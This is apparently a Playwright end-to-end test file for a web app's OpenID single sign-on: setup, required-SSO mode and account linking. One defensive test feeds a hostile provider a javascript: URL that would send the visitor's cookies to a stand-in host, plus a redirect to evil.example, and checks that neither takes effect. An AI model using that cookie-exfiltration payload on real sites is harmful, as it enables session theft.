import { spawn, ChildProcess } from 'node:child_process';
import { createInterface } from 'node:readline';
import path from 'node:path';
import { test, expect, Page } from './fixtures';
import {
  PASSWORD, activateOrganization, hydrated, inviteSomeone, linkFromMailbox, messages, screenshot,
  screenshotOf, uniqueEmail, verifyDomain,
} from './helpers';

// Single sign-on through a real OpenID provider (panva's oidc-provider, started here on
// loopback with a fixed client and test users: end2end/oidc/provider.mjs). The OWNER
// verifies a domain, sets single sign-on up, and people at that domain sign in through
// the provider.
const CLIENT_SECRET = 'muster-test-secret';
const PROVIDER_PASSWORD = 'provider password';
const t = messages('en');
let provider: ChildProcess;
let issuer = '';

test.beforeAll(async () => {
  const base = process.env.BASE_URL ?? 'http://127.0.0.1:3000';
  provider = spawn('node', [path.join(__dirname, '../oidc/provider.mjs')], {
    env: { ...process.env, OIDC_REDIRECT_URIS: `${base}/sso/callback` },
    stdio: ['ignore', 'pipe', 'ignore'],
  });
  const lines = createInterface({ input: provider.stdout! });
  issuer = await new Promise<string>((resolve) => {
    lines.on('line', (line) => {
      if (line.startsWith('ISSUER ')) resolve(line.slice('ISSUER '.length));
    });
  });
});

test.afterAll(() => {
  provider?.kill();
});

/** The OWNER on `page` saves the test provider as the organization's single sign-on. */
async function saveProvider(page: Page, home: string) {
  await page.goto(`${home}/settings#sso`);
  await hydrated(page);
  await page.locator('#sso').getByLabel(t('sso.issuer')).fill(issuer);
  await page.locator('#sso').getByLabel(t('sso.client_id')).fill('muster');
  await page.locator('#sso').getByLabel(t('sso.client_secret')).fill(CLIENT_SECRET);
  await page.locator('#sso').getByRole('button', { name: t('sso.save'), exact: true }).click();
  await expect(page.getByTestId('sso-done')).toHaveText(t('sso.saved'));
  await hydrated(page);
}

/** At the provider's sign-in page: signs in there as `email`. */
async function signInAtProvider(page: Page, email: string) {
  await expect(page.getByRole('heading', { name: 'Test provider' })).toBeVisible();
  await expect(page.getByLabel('Provider email')).toHaveValue(email);
  await page.getByLabel('Provider password').fill(PROVIDER_PASSWORD);
  await page.getByRole('button', { name: 'Sign in to the provider' }).click();
}

test('an owner verifies a domain and sets single sign-on up; someone new at the domain signs in through the provider and is a member', async ({ page, browser, pageErrors }) => {
  test.setTimeout(240_000);
  pageErrors.expectStatus(422, 'a wrong client secret is refused by "Test connection"');
  const owner = uniqueEmail('sso-owner');
  const home = await activateOrganization(page, 'en', 'Single Co', owner);
  const domain = `${owner.split('@')[0].replace(/[^a-z0-9-]/g, '-')}.example`;
  await verifyDomain(page, home, domain);

  await page.goto(`${home}/settings#sso`);
  await hydrated(page);
  const section = page.locator('#sso');
  await expect(section.getByRole('heading', { name: t('sso.title') })).toBeVisible();
  await expect(section.getByTestId('sso-domains')).toHaveText(t('sso.domains', { domains: domain }));
  await expect(section.getByTestId('sso-redirect')).toHaveText(/\/sso\/callback$/);
  await section.getByLabel(t('sso.issuer')).fill(issuer);
  await section.getByLabel(t('sso.client_id')).fill('muster');
  // A wrong client secret: "Test connection" says so, on the field to fix.
  await section.getByLabel(t('sso.client_secret')).fill('not the secret');
  await section.getByRole('button', { name: t('sso.test') }).click();
  await expect(section.getByText(t('errors.sso_client_refused'))).toBeVisible();
  await screenshot(page, 'identity', 'en-4-sso-wrong-secret');
  await section.getByLabel(t('sso.client_secret')).fill(CLIENT_SECRET);
  await section.getByRole('button', { name: t('sso.test') }).click();
  await expect(page.getByTestId('sso-done')).toHaveText(t('sso.tested'));
  await hydrated(page);
  // What was tested is still there to save; the secret is typed again, never echoed.
  await expect(page.locator('#sso').getByLabel(t('sso.issuer'))).toHaveValue(issuer);
  await expect(page.locator('#sso').getByLabel(t('sso.client_secret'))).toHaveValue('');
  await page.locator('#sso').getByLabel(t('sso.client_secret')).fill(CLIENT_SECRET);
  await page.locator('#sso').getByRole('button', { name: t('sso.save'), exact: true }).click();
  await expect(page.getByTestId('sso-done')).toHaveText(t('sso.saved'));
  await hydrated(page);
  await screenshotOf(page.locator('#sso'), 'identity', 'en-sso-section');

  // Someone new at the domain: the address first, then the provider, then Muster.
  const newcomer = `nia@${domain}`;
  const context = await browser.newContext({ locale: 'en-US' });
  const nia = await context.newPage();
  await nia.goto('/signin');
  await hydrated(nia);
  await nia.getByLabel(t('auth.email')).fill(newcomer);
  await nia.getByRole('button', { name: t('auth.continue') }).click();
  await signInAtProvider(nia, newcomer);
  await expect(nia).toHaveURL(new RegExp(`${home}$`));
  await expect(nia.getByText(t('org.your_role', { role: t('roles.viewer') }))).toBeVisible();
  await hydrated(nia);
  await context.close();
  // Muster welcomed her.
  await linkFromMailbox(page, newcomer, t('email.sso_welcome.subject', { org: 'Single Co' }));
});

test('with "Require single sign-on", a member\'s password sign-in is sent to the provider; the owner keeps the password', async ({ page, browser, pageErrors }) => {
  test.setTimeout(240_000);
  pageErrors.expectStatus(403, "a session from before single sign-on was required is refused by the organization's pages");
  const owner = uniqueEmail('sso-strict');
  const home = await activateOrganization(page, 'en', 'Strict SSO Co', owner);
  const domain = `${owner.split('@')[0].replace(/[^a-z0-9-]/g, '-')}.example`;
  await verifyDomain(page, home, domain);
  await saveProvider(page, home);

  // Pat was invited and chose a password before single sign-on was required.
  const pat = `pat@${domain}`;
  await inviteSomeone(page, pat, 'EDITOR');
  const link = await linkFromMailbox(page, pat, t('email.invitation.subject', { inviter: 'Olivia Owner', org: 'Strict SSO Co' }));
  const context = await browser.newContext({ locale: 'en-US' });
  const patPage = await context.newPage();
  await patPage.goto(link);
  await hydrated(patPage);
  await patPage.getByLabel(t('auth.name'), { exact: true }).fill('Pat Member');
  await patPage.getByLabel(t('auth.password')).fill(PASSWORD);
  await patPage.getByRole('button', { name: t('invitations.set_password_and_join') }).click();
  await expect(patPage.getByText(t('org.your_role', { role: t('roles.editor') }))).toBeVisible();
  await hydrated(patPage);

  await page.goto(`${home}/settings#sso`);
  await hydrated(page);
  await expect(page.locator('#sso').getByText(t('sso.require_hint'))).toBeVisible();
  await page.getByLabel(t('sso.require'), { exact: true }).check();
  await page.locator('#sso').getByRole('button', { name: t('sso.require_save') }).click();
  await expect(page.getByTestId('sso-done')).toHaveText(t('sso.required_saved'));
  await hydrated(page);
  await screenshotOf(page.locator('#sso'), 'identity', 'en-sso-required');

  // Pat's session from before no longer opens the organization; it offers the provider.
  await patPage.goto(home);
  await expect(patPage.getByTestId('sso-required')).toContainText(t('errors.sso_required', { org: 'Strict SSO Co' }));
  await hydrated(patPage);
  // Her password sign-in goes on to the provider, and from there into the organization.
  await context.clearCookies();
  await patPage.goto(`/signin?email=${encodeURIComponent(pat)}`);
  await hydrated(patPage);
  await patPage.getByLabel(t('auth.password')).fill(PASSWORD);
  await patPage.getByRole('button', { name: t('auth.sign_in'), exact: true }).click();
  await signInAtProvider(patPage, pat);
  // Her account existed before: the provider is linked to it only when she confirms, in
  // this browser, the link mailed to her.
  await expect(patPage.getByTestId('sso-problem')).toHaveText(t('sso.confirm_link_sent'));
  await hydrated(patPage);
  const confirm = await linkFromMailbox(page, pat, t('email.sso_link.subject', { org: 'Strict SSO Co' }));
  await patPage.goto(confirm);
  await expect(patPage.getByRole('heading', { name: t('sso.link_title', { org: 'Strict SSO Co' }) })).toBeVisible();
  await patPage.getByRole('button', { name: t('sso.link_confirm') }).click();
  await expect(patPage).toHaveURL(new RegExp(`${home}$`));
  await expect(patPage.getByText(t('org.your_role', { role: t('roles.editor') }))).toBeVisible();
  await hydrated(patPage);
  await context.close();

  // The owner signs in with the password, as the page promised.
  await page.context().clearCookies();
  await page.goto(`/signin?email=${encodeURIComponent(owner)}`);
  await hydrated(page);
  await page.getByLabel(t('auth.password')).fill(PASSWORD);
  await page.getByRole('button', { name: t('auth.sign_in'), exact: true }).click();
  await expect(page).toHaveURL(/\/$/);
  await page.goto(home);
  await expect(page.getByText(t('org.your_role', { role: t('roles.owner') }))).toBeVisible();
  await hydrated(page);
});

test('a signed-in visitor who opens a hostile organization\'s single sign-on link runs no script and reaches no other site', async ({ page }) => {
  test.setTimeout(240_000);
  const owner = uniqueEmail('sso-hostile');
  const home = await activateOrganization(page, 'en', 'Hostile Co', owner);
  const domain = `${owner.split('@')[0].replace(/[^a-z0-9-]/g, '-')}.example`;
  await verifyDomain(page, home, domain);
  await saveProvider(page, home);

  // After saving, the organization's provider names a script, then a foreign site, as
  // its sign-in page. The visitor (signed in to Muster, as the owner here) opens a
  // genuine Muster link for that organization.
  const base = new URL(process.env.BASE_URL ?? 'http://127.0.0.1:3000').origin;
  const reached = new Set<string>();
  page.on('request', (request) => reached.add(new URL(request.url()).origin));
  let dialogs = 0;
  page.on('dialog', (dialog) => { dialogs += 1; void dialog.dismiss(); });
  try {
    for (const endpoint of [
      "javascript:alert(document.domain);fetch('http://127.0.0.9:9/stolen?'+document.cookie)",
      'https://evil.example/authorize',
    ]) {
      const res = await fetch(`${issuer}/__test/discovery`, {
        method: 'POST', body: JSON.stringify({ authorization_endpoint: endpoint }),
      });
      expect(res.status).toBe(204);
      await page.goto(`/sso/start?email=${encodeURIComponent(`visitor@${domain}`)}`);
      await expect(page).toHaveURL(/\/signin\?sso=provider$/);
      await expect(page.getByTestId('sso-problem')).toHaveText(t('sso.problem_provider'));
      await hydrated(page);
    }
  } finally {
    await fetch(`${issuer}/__test/discovery`, { method: 'POST', body: '{}' });
  }
  expect(dialogs, 'no script ran').toBe(0);
  expect([...reached].filter((origin) => origin !== base), 'no other site was reached').toEqual([]);
});
